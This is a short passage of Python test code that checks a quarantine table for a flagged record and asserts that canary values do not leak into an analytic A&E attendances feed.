    assert query(home, "SELECT count(*) FROM quarantine WHERE raw LIKE '%Zzyzx%'") == [(1,)]
    rows = query(home, "SELECT * FROM analytic.feed_ae_attendances")
    assert_no_leak(repr(rows), *CANARY)
